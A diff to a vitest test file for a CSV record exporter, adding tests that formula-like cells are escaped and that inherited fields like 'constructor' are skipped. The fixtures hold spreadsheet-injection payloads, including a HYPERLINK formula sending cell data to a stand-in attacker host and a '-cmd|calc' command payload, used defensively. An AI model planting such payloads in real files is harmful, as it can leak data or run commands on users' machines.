@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import type { VectorRecord } from '../../../../src/model/record.ts';
+import type { Metadata, VectorRecord } from '../../../../src/model/record.ts';
 import type { ExportFormat } from '../../../../src/model/recordText.ts';
 import { exportRecords } from '../../../../src/services/transfer/exportRecords.ts';
 
@@ -34,6 +34,32 @@ describe('exporting records', () => {
         '',
       ].join('\r\n'),
     );
+  });
+
+  it('writes no table that a spreadsheet would compute anything in', async () => {
+    const link = '=HYPERLINK("http://evil.example?"&A1)';
+    const records = [
+      { id: '@SUM(1)', values: [], metadata: { '+1+1': 'x', said: link, low: '-5', rank: -5 } },
+      { id: '-1', values: [], metadata: { said: '-cmd|calc' } },
+    ];
+    const { text } = await run(records, 'csv');
+    expect(text).toBe(
+      [
+        "id,'+1+1,said,low,rank,values,sparse_values",
+        `'@SUM(1),x,"'=HYPERLINK(""http://evil.example?""&A1)",-5,-5,,`,
+        "-1,,'-cmd|calc,,,,",
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  it('writes nothing for fields that a record merely inherits', async () => {
+    const records = [
+      { id: 'a', values: [], metadata: { constructor: 'x' } as unknown as Metadata },
+      { id: 'b', values: [], metadata: {} },
+    ];
+    const { text } = await run(records, 'csv');
+    expect(text.split('\r\n')[2]).toBe('b,,,');
   });
 
   it('fetches page by page, and says how far it is', async () => {
